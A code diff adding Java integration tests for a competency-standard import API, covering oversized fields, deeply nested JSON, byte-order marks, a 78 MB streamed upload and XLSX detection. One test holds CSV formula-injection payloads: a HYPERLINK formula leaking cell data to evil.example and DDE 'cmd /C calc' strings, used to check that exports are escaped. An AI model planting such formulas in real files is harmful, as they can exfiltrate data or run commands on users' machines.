@@ -382,4 +382,211 @@ class CompetencyIT extends OnPayaraMicro {
         assertThat(errors).hasSize(36);
         assertThat(errors).extracting(e -> e.getString("field")).contains("line 5", "line 40");
     }
+
+    @Test
+    @Order(14)
+    void over_long_values_in_a_csv_are_a_400_naming_column_and_line_and_nothing_is_stored() {
+        String csv = "record,code,parent,name,description,kind,level\n"
+                + "SCALE,1,,Базовый,Знает основы,,\n"
+                + "AREA,LONG,,Область,,,\n"
+                + "COMPETENCY," + "К".repeat(56) + ",LONG,Компетенция,,PROFESSIONAL,\n"
+                + "COMPETENCY,LONG-02,LONG," + "с".repeat(600) + "," + "о".repeat(2_500) + ",PROFESSIONAL,\n";
+        Api methodologist = Api.as(base, "methodologist");
+
+        Api.Reply r = methodologist.send("POST", "api/v1/competency/import?format=csv&standard=TEST-LONG&title=Long",
+                csv);
+
+        assertThat(r.status()).as(r.toString()).isEqualTo(400);
+        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
+        assertThat(errors(r)).containsExactly(
+                "line 4: column 'code' is 56 characters long; at most 40 are allowed",
+                "line 5: column 'name' is 600 characters long; at most 500 are allowed",
+                "line 5: column 'description' is 2500 characters long; at most 2000 are allowed");
+        assertThat(methodologist.get("api/v1/competency/standards/TEST-LONG/versions").array()).isEmpty();
+    }
+
+    @Test
+    @Order(15)
+    void over_long_values_in_a_case_package_are_a_400_naming_item_and_field_and_nothing_is_stored() {
+        Api methodologist = Api.as(base, "methodologist");
+        JsonObject pkg = caseExport("TEST-CASE-LONG");
+        List<JsonObject> items = pkg.getJsonArray("CFItems").getValuesAs(JsonObject.class);
+        String competencyId = items.get(1).getString("identifier");
+        String longId = "urn:x-municipal-academy:item:" + "7".repeat(21); // 50 characters, not a UUID
+        var edited = Json.createArrayBuilder(pkg.getJsonArray("CFItems"))
+                .set(1, Json.createObjectBuilder(items.get(1)).add("humanCodingScheme", "H".repeat(60))
+                        .add("fullStatement", "с".repeat(600)).add("notes", "о".repeat(2_500)))
+                .set(0, Json.createObjectBuilder(items.get(0)).add("identifier", longId));
+        String json = Json.createObjectBuilder(pkg).add("CFItems", edited).build().toString();
+
+        Api.Reply r = methodologist.send("POST", "api/v1/competency/import?format=case", json);
+
+        assertThat(r.status()).as(r.toString()).isEqualTo(400);
+        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
+        assertThat(errors(r)).contains(
+                "CFItem " + competencyId + ": humanCodingScheme is 60 characters long; at most 40 are allowed",
+                "CFItem " + competencyId + ": fullStatement is 600 characters long; at most 500 are allowed",
+                "CFItem " + competencyId + ": notes is 2500 characters long; at most 2000 are allowed",
+                "CFItem " + longId.substring(0, 40) + "…: identifier '" + longId.substring(0, 40)
+                        + "…' is 50 characters long; at most 36 are allowed (a CASE identifier is a UUID)");
+        assertThat(methodologist.get("api/v1/competency/standards/TEST-CASE-LONG/versions").array()).isEmpty();
+    }
+
+    @Test
+    @Order(16)
+    void a_case_document_nested_ten_thousand_deep_is_a_400_not_a_server_error() {
+        String deep = "{\"CFDocument\": " + "[".repeat(10_000) + "]".repeat(10_000) + "}";
+
+        Api.Reply r = Api.as(base, "methodologist").send("POST", "api/v1/competency/import?format=case", deep);
+
+        assertThat(r.status()).as(r.toString()).isEqualTo(400);
+        assertThat(errors(r)).singleElement().asString().startsWith("JSON: The package nests deeper than");
+    }
+
+    @Test
+    @Order(17)
+    void a_case_package_saved_with_a_utf8_byte_order_mark_is_imported() {
+        Api methodologist = Api.as(base, "methodologist");
+        String json = caseExport("TEST-CASE-BOM").toString();
+        byte[] withMark = ("\uFEFF" + json).getBytes(java.nio.charset.StandardCharsets.UTF_8);
+
+        Api.Reply r = methodologist.sendBytes("POST", "api/v1/competency/import?format=case", withMark,
+                "application/json");
+
+        assertThat(r.status()).as(r.toString()).isEqualTo(201);
+        assertThat(r.json().getString("standardCode")).isEqualTo("TEST-CASE-BOM");
+        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + r.json().getInt("id")).json()))
+                .extracting(c -> c.getString("name")).contains("Работа с обращениями граждан: ёмко и в срок");
+    }
+
+    @Test
+    @Order(18)
+    void a_78_megabyte_csv_streamed_without_a_length_is_refused_with_413_at_the_import_limit() throws Exception {
+        long size = 78L * 1024 * 1024;
+        byte[] row = "INDICATOR,,A1,Отвечает на обращения граждан в установленный срок,,,1\n"
+                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
+        java.io.InputStream generated = new java.io.InputStream() {
+            private long position;
+
+            @Override
+            public int read() {
+                return position < size ? row[(int) (position++ % row.length)] & 0xFF : -1;
+            }
+
+            @Override
+            public int read(byte[] b, int off, int len) {
+                if (position >= size) {
+                    return -1;
+                }
+                int n = (int) Math.min(len, size - position);
+                for (int i = 0; i < n; i++) {
+                    b[off + i] = (byte) read();
+                }
+                return n;
+            }
+        };
+        var request = java.net.http.HttpRequest.newBuilder(base.resolve(
+                        "api/v1/competency/import?format=csv&standard=TEST-HUGE&title=Huge"))
+                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
+                        "methodologist:demo12345".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
+                .header("Content-Type", "text/csv").header("Accept", "application/json")
+                .POST(java.net.http.HttpRequest.BodyPublishers.ofInputStream(() -> generated)) // chunked: no length
+                .build();
+        long started = System.nanoTime();
+        var response = java.net.http.HttpClient.newHttpClient().send(request,
+                java.net.http.HttpResponse.BodyHandlers.ofString());
+        System.out.printf("78 MB CSV: %d after %d ms%n", response.statusCode(), (System.nanoTime() - started) / 1_000_000);
+
+        assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
+        assertThat(response.body()).contains("PAYLOAD_TOO_LARGE");
+        assertThat(Api.as(base, "methodologist").get("api/v1/competency/standards/TEST-HUGE/versions").array())
+                .isEmpty();
+    }
+
+    @Test
+    @Order(19)
+    void names_that_look_like_formulas_are_exported_as_text_and_imported_back_unchanged() {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")";
+        String dde = "=cmd|' /C calc'!A0";
+        String sum = "@SUM(1+1)*cmd|' /C calc'!A0";
+        String csv = "record;code;parent;name;description;kind;level\n"
+                + "SCALE;1;;Базовый;Знает основы;;\n"
+                + "AREA;FORM;;\"" + hyperlink.replace("\"", "\"\"") + "\";;;\n"
+                + "COMPETENCY;FORM-01;FORM;" + dde + ";" + sum + ";PROFESSIONAL;\n";
+        Api methodologist = Api.as(base, "methodologist");
+        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA"
+                + "&title=Formula", csv.getBytes(java.nio.charset.Charset.forName("windows-1251")), "text/csv");
+        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
+        int id = imported.json().getInt("id");
+
+        String exported = methodologist.getAny("api/v1/competency/versions/" + id + "/export?format=csv").body();
+
+        assertThat(exported).contains("'" + dde, "'" + sum).contains("\"'=HYPERLINK(");
+        assertThat(exported.lines()).noneMatch(line -> line.contains(",=") || line.contains(",@")
+                || line.contains(",\"="));
+        Api.Reply again = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA-2"
+                + "&title=Formula", exported.getBytes(java.nio.charset.StandardCharsets.UTF_8), "text/csv");
+        assertThat(again.status()).as(again.toString()).isEqualTo(201);
+        assertThat(methodologist.get("api/v1/competency/versions/" + id + "/compare/" + again.json().getInt("id"))
+                .array()).as("the re-imported export is the same framework").isEmpty();
+        JsonObject area = methodologist.get("api/v1/competency/versions/" + again.json().getInt("id")).json()
+                .getJsonArray("areas").getJsonObject(0);
+        assertThat(area.getString("name")).isEqualTo(hyperlink);
+    }
+
+    @Test
+    @Order(20)
+    void the_format_is_judged_by_the_content_an_xlsx_workbook_imports_and_a_mismatching_format_is_named()
+            throws Exception {
+        byte[] xlsx;
+        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook();
+                var out = new java.io.ByteArrayOutputStream()) {
+            var sheet = book.createSheet("Стандарт");
+            String[][] rows = {{"record", "code", "parent", "name", "description", "kind", "level"},
+                    {"SCALE", "1", "", "Базовый", "Знает основы", "", ""},
+                    {"AREA", "XL", "", "Область из Excel", "", "", ""},
+                    {"COMPETENCY", "XL-01", "XL", "Ведение реестров", "", "PROFESSIONAL", ""},
+                    {"INDICATOR", "", "XL-01", "Вносит записи без ошибок", "", "", "1"}};
+            for (int r = 0; r < rows.length; r++) {
+                var row = sheet.createRow(r);
+                for (int c = 0; c < rows[r].length; c++) {
+                    row.createCell(c).setCellValue(rows[r][c]);
+                }
+            }
+            book.write(out);
+            xlsx = out.toByteArray();
+        }
+        Api methodologist = Api.as(base, "methodologist");
+
+        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-XLSX"
+                + "&title=Excel", xlsx, "application/octet-stream");
+        Api.Reply mismatch = methodologist.sendBytes("POST", "api/v1/competency/import?format=case&standard=TEST-XLSX2"
+                + "&title=Excel", xlsx, "application/json");
+
+        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
+        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + imported.json().getInt("id"))
+                .json())).extracting(c -> c.getString("name")).containsExactly("Ведение реестров");
+        assertThat(mismatch.status()).as(mismatch.toString()).isEqualTo(400);
+        assertThat(errors(mismatch)).singleElement().asString().startsWith("format: format=case was asked for");
+    }
+
+    /** A small standard's CASE package under a new standard code: the CSV of order 12 exported as CASE. */
+    private JsonObject caseExport(String standardCode) {
+        Api methodologist = Api.as(base, "methodologist");
+        int id = methodologist.get("api/v1/competency/standards/TEST-BOM/versions").array().getJsonObject(0)
+                .getInt("id");
+        JsonObject pkg = methodologist.get("api/v1/competency/versions/" + id + "/export?format=case").json();
+        // fresh identifiers: the CASE ids are derived from the standard code when it changes
+        String json = pkg.toString().replace(pkg.getJsonObject("CFDocument").getString("identifier"),
+                java.util.UUID.randomUUID().toString());
+        JsonObject renamed = Json.createReader(new java.io.StringReader(json)).readObject();
+        return Json.createObjectBuilder(renamed).add("CFDocument", Json.createObjectBuilder(
+                renamed.getJsonObject("CFDocument")).add("notes", standardCode)).build();
+    }
+
+    /** A problem response's errors as "field: message". */
+    private static List<String> errors(Api.Reply r) {
+        return r.json().getJsonArray("errors").getValuesAs(JsonObject.class).stream()
+                .map(e -> e.getString("field") + ": " + e.getString("message")).toList();
+    }
 }
